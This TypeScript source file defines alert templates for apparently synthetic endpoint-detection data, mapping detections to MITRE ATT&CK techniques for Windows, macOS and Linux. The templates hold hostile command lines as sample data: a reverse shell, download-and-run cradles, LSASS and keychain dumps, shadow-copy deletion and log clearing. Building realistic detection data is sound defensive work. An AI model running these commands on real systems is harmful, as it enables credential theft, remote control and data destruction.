// Alert templates: endpoint detections with their MITRE ATT&CK tactic and
// technique, the image that triggered them and a typical command line.
import type { Alert } from './records/detections.js';
import type { Platform } from './records/hosts.js';
import type { SampleKind } from './processes.js';

/** The alert fields a template fixes; the rest come from the host and the time. */
export interface AlertTemplate
  extends Pick<Alert, 'name' | 'display_name' | 'description' | 'tactic' | 'tactic_id' | 'technique' | 'technique_id' | 'objective' | 'scenario'> {
  severity: [number, number];
  platform: Platform;
  /** image key: a catalogue key ("win:powershell") reuses that image's hashes */
  image: string;
  /** path when the image is not in the catalogue; {user} is filled in */
  path?: string;
  /** {path}, {user}, {ip}, {b64}, {n} are filled in */
  cmd: string;
  patternId: number;
  /** the sample image this detection is about */
  sample?: SampleKind;
}

const EXEC = { tactic: 'Execution', tactic_id: 'TA0002' };
const PERSIST = { tactic: 'Persistence', tactic_id: 'TA0003' };
const DEFENSE = { tactic: 'Defense Evasion', tactic_id: 'TA0005' };
const CRED = { tactic: 'Credential Access', tactic_id: 'TA0006' };
const DISCOVERY = { tactic: 'Discovery', tactic_id: 'TA0007' };
const LATERAL = { tactic: 'Lateral Movement', tactic_id: 'TA0008' };
const C2 = { tactic: 'Command and Control', tactic_id: 'TA0011' };
const EXFIL = { tactic: 'Exfiltration', tactic_id: 'TA0010' };
const IMPACT = { tactic: 'Impact', tactic_id: 'TA0040' };
const ML = { tactic: 'Machine Learning', tactic_id: 'CSTA0004' };

export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  // Windows
  { name: 'CredentialDumpingLsass', display_name: 'LSASS memory dumped via comsvcs.dll', description: 'A process used comsvcs.dll to dump the memory of LSASS, which may expose credentials of logged-on users.', ...CRED, technique: 'LSASS Memory', technique_id: 'T1003.001', objective: 'Gain Access', scenario: 'credential_theft', severity: [75, 95], platform: 'Windows', image: 'tool:win:rundll32', path: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Windows\\Temp\\lsass.dmp full', patternId: 10197 },
  { name: 'EncodedPowerShellDownload', display_name: 'PowerShell ran an encoded download cradle', description: 'PowerShell ran a base64-encoded command that downloads and executes a script from a remote host.', ...EXEC, technique: 'PowerShell', technique_id: 'T1059.001', objective: 'Follow Through', scenario: 'suspicious_activity', severity: [50, 78], platform: 'Windows', image: 'win:powershell', cmd: 'powershell.exe -nop -w hidden -enc {b64}', patternId: 50102 },
  { name: 'OfficeSpawnedShell', display_name: 'Office application spawned a command shell', description: 'A Microsoft Office application launched cmd.exe, which is typical of a malicious macro in an opened document.', ...EXEC, technique: 'Malicious File', technique_id: 'T1204.002', objective: 'Gain Access', scenario: 'attacker_methodology', severity: [60, 85], platform: 'Windows', image: 'win:cmd', cmd: 'cmd.exe /c powershell -w hidden -c "iwr http://{ip}/d.ps1 | iex"', patternId: 5702 },
  { name: 'ScheduledTaskPersistence', display_name: 'Scheduled task created for a user-writable binary', description: 'A scheduled task was created that runs a binary from a user-writable folder at logon with the highest privileges.', ...PERSIST, technique: 'Scheduled Task', technique_id: 'T1053.005', objective: 'Keep Access', scenario: 'suspicious_activity', severity: [40, 65], platform: 'Windows', image: 'tool:win:schtasks', path: 'C:\\Windows\\System32\\schtasks.exe', cmd: 'schtasks.exe /create /tn "OneDriveUpdate" /tr "C:\\Users\\{user}\\AppData\\Local\\Temp\\WinUpdateHelper.exe" /sc onlogon /rl highest /f', patternId: 10134 },
  { name: 'ShadowCopyDeletion', display_name: 'Volume shadow copies deleted', description: 'vssadmin deleted all volume shadow copies, a common step before ransomware encrypts files.', ...IMPACT, technique: 'Inhibit System Recovery', technique_id: 'T1490', objective: 'Follow Through', scenario: 'ransomware', severity: [85, 100], platform: 'Windows', image: 'tool:win:vssadmin', path: 'C:\\Windows\\System32\\vssadmin.exe', cmd: 'vssadmin.exe delete shadows /all /quiet', patternId: 10285 },
  { name: 'PsExecServiceLateralMovement', display_name: 'Remote service execution over admin shares', description: 'A remotely installed service was started from an administrative share, consistent with PsExec-style lateral movement.', ...LATERAL, technique: 'SMB/Windows Admin Shares', technique_id: 'T1021.002', objective: 'Explore', scenario: 'lateral_movement', severity: [55, 78], platform: 'Windows', image: 'tool:win:psexesvc', path: 'C:\\Windows\\PSEXESVC.exe', cmd: 'C:\\Windows\\PSEXESVC.exe', patternId: 20411 },
  { name: 'DomainAdminDiscovery', display_name: 'Domain admin group enumerated', description: 'The net command listed members of privileged domain groups.', ...DISCOVERY, technique: 'Domain Account', technique_id: 'T1087.002', objective: 'Explore', scenario: 'reconnaissance', severity: [20, 45], platform: 'Windows', image: 'tool:win:net', path: 'C:\\Windows\\System32\\net.exe', cmd: 'net group "Domain Admins" /domain', patternId: 30022 },
  { name: 'CertutilDownload', display_name: 'certutil used to download a file', description: 'certutil.exe fetched a remote file, a known living-off-the-land technique for tool transfer.', ...C2, technique: 'Ingress Tool Transfer', technique_id: 'T1105', objective: 'Follow Through', scenario: 'suspicious_activity', severity: [50, 72], platform: 'Windows', image: 'tool:win:certutil', path: 'C:\\Windows\\System32\\certutil.exe', cmd: 'certutil.exe -urlcache -split -f http://{ip}/a.bin C:\\Users\\Public\\a.exe', patternId: 10163 },
  { name: 'RunKeyPersistence', display_name: 'Run key added for a binary in ProgramData', description: 'A Run registry value was added that starts a binary from ProgramData at every logon.', ...PERSIST, technique: 'Registry Run Keys / Startup Folder', technique_id: 'T1547.001', objective: 'Keep Access', scenario: 'suspicious_activity', severity: [40, 62], platform: 'Windows', image: 'tool:win:reg', path: 'C:\\Windows\\System32\\reg.exe', cmd: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\ProgramData\\svcmgr\\svcmgr.exe" /f', patternId: 10211 },
  { name: 'EventLogCleared', display_name: 'Security event log cleared', description: 'wevtutil cleared the Security event log, which removes evidence of earlier activity.', ...DEFENSE, technique: 'Clear Windows Event Logs', technique_id: 'T1070.001', objective: 'Keep Access', scenario: 'defense_evasion', severity: [60, 82], platform: 'Windows', image: 'tool:win:wevtutil', path: 'C:\\Windows\\System32\\wevtutil.exe', cmd: 'wevtutil.exe cl Security', patternId: 10240 },
  { name: 'SensorMLLow', display_name: 'Machine learning: low-confidence malicious file', description: 'The sensor machine learning model rated a newly written file as possibly malicious.', ...ML, technique: 'Sensor-based ML', technique_id: 'CST0007', objective: 'Falcon Detection Method', scenario: 'NGAV', severity: [8, 38], platform: 'Windows', image: 'tool:win:pup', path: 'C:\\Users\\{user}\\Downloads\\PDFConverterSetup.exe', cmd: '"{path}" /S', patternId: 5747 },
  { name: 'MaliciousLoaderIntel', display_name: 'File matched a known malicious loader', description: 'A file that intelligence links to a commodity loader ran from the user temp folder and contacted its update host.', ...EXEC, technique: 'Malicious File', technique_id: 'T1204.002', objective: 'Falcon Detection Method', scenario: 'known_malware', severity: [70, 92], platform: 'Windows', image: 'sample:loader', cmd: '', patternId: 5701, sample: 'loader' },
  { name: 'CloudStorageExfiltration', display_name: 'Renamed sync tool copied documents to cloud storage', description: 'A renamed cloud-sync utility in ProgramData copied user documents to a remote storage endpoint.', ...EXFIL, technique: 'Exfiltration to Cloud Storage', technique_id: 'T1567.002', objective: 'Follow Through', scenario: 'data_exfiltration', severity: [65, 88], platform: 'Windows', image: 'sample:exfil', cmd: '', patternId: 10350, sample: 'exfil' },
  // macOS
  { name: 'FakePasswordPrompt', display_name: 'osascript displayed a fake password dialog', description: 'osascript showed a dialog asking for the user password, a common credential phishing trick on macOS.', ...CRED, technique: 'GUI Input Capture', technique_id: 'T1056.002', objective: 'Gain Access', scenario: 'credential_theft', severity: [60, 82], platform: 'Mac', image: 'tool:mac:osascript', path: '/usr/bin/osascript', cmd: 'osascript -e display dialog "macOS needs your password to apply updates" default answer "" with hidden answer', patternId: 40213 },
  { name: 'LaunchAgentPersistence', display_name: 'Launch agent loaded from a hidden folder', description: 'launchctl loaded a launch agent that starts a binary from a hidden folder in /Users/Shared.', ...PERSIST, technique: 'Launch Agent', technique_id: 'T1543.001', objective: 'Keep Access', scenario: 'suspicious_activity', severity: [50, 70], platform: 'Mac', image: 'tool:mac:launchctl', path: '/bin/launchctl', cmd: 'launchctl load -w /Users/{user}/Library/LaunchAgents/com.apple.updateagent.plist', patternId: 40150 },
  { name: 'CurlPipeShell', display_name: 'Remote script piped into a shell', description: 'A shell downloaded a script with curl and executed it directly.', ...EXEC, technique: 'Unix Shell', technique_id: 'T1059.004', objective: 'Follow Through', scenario: 'suspicious_activity', severity: [45, 70], platform: 'Mac', image: 'tool:mac:bash', path: '/bin/bash', cmd: 'bash -c "curl -fsSL http://{ip}/i.sh | bash"', patternId: 40107 },
  { name: 'KeychainDump', display_name: 'Keychain contents dumped', description: 'The security tool dumped the login keychain, which may expose saved passwords.', ...CRED, technique: 'Keychain', technique_id: 'T1555.001', objective: 'Gain Access', scenario: 'credential_theft', severity: [70, 90], platform: 'Mac', image: 'tool:mac:security', path: '/usr/bin/security', cmd: 'security dump-keychain -d login.keychain-db', patternId: 40220 },
  { name: 'MacUpdateAgentBeacon', display_name: 'Hidden agent beaconing over HTTPS', description: 'A binary in a hidden folder under /Users/Shared made periodic HTTPS requests to an unknown host.', ...C2, technique: 'Web Protocols', technique_id: 'T1071.001', objective: 'Keep Access', scenario: 'known_malware', severity: [60, 85], platform: 'Mac', image: 'sample:agent', cmd: '', patternId: 40301, sample: 'agent' },
  // Linux
  { name: 'ReverseShell', display_name: 'Interactive reverse shell', description: 'bash opened an interactive shell whose input and output are redirected to a remote TCP connection.', ...EXEC, technique: 'Unix Shell', technique_id: 'T1059.004', objective: 'Follow Through', scenario: 'attacker_methodology', severity: [80, 96], platform: 'Linux', image: 'lin:bash', cmd: 'bash -i >& /dev/tcp/{ip}/4444 0>&1', patternId: 60011 },
  { name: 'CronPersistence', display_name: 'Crontab entry downloads and runs a script', description: 'A cron entry was added that downloads a script every five minutes and pipes it into sh.', ...PERSIST, technique: 'Cron', technique_id: 'T1053.003', objective: 'Keep Access', scenario: 'suspicious_activity', severity: [55, 75], platform: 'Linux', image: 'tool:lin:sh', path: '/usr/bin/dash', cmd: '/bin/sh -c (crontab -l; echo "*/5 * * * * curl -fsSL http://{ip}/x | sh") | crontab -', patternId: 60042 },
  { name: 'ShadowFileRead', display_name: 'Password hashes read from /etc/shadow', description: 'A process read /etc/shadow, which holds the password hashes of local accounts.', ...CRED, technique: '/etc/passwd and /etc/shadow', technique_id: 'T1003.008', objective: 'Gain Access', scenario: 'credential_theft', severity: [50, 72], platform: 'Linux', image: 'tool:lin:cat', path: '/usr/bin/cat', cmd: 'cat /etc/shadow', patternId: 60077 },
  { name: 'SystemDiscovery', display_name: 'Host reconnaissance commands', description: 'A shell ran a burst of commands that collect system and user information.', ...DISCOVERY, technique: 'System Information Discovery', technique_id: 'T1082', objective: 'Explore', scenario: 'reconnaissance', severity: [10, 35], platform: 'Linux', image: 'tool:lin:uname', path: '/usr/bin/uname', cmd: 'uname -a', patternId: 60003 },
  { name: 'CryptoMiner', display_name: 'Cryptocurrency miner running from /tmp', description: 'A binary running from a hidden folder in /tmp connected to a mining pool and used most of the CPU.', ...IMPACT, technique: 'Resource Hijacking', technique_id: 'T1496', objective: 'Follow Through', scenario: 'cryptomining', severity: [70, 90], platform: 'Linux', image: 'sample:miner', cmd: '', patternId: 60120, sample: 'miner' },
];

export function severityName(severity: number): 'Informational' | 'Low' | 'Medium' | 'High' | 'Critical' {
  if (severity < 20) return 'Informational';
  if (severity < 40) return 'Low';
  if (severity < 60) return 'Medium';
  if (severity < 80) return 'High';
  return 'Critical';
}
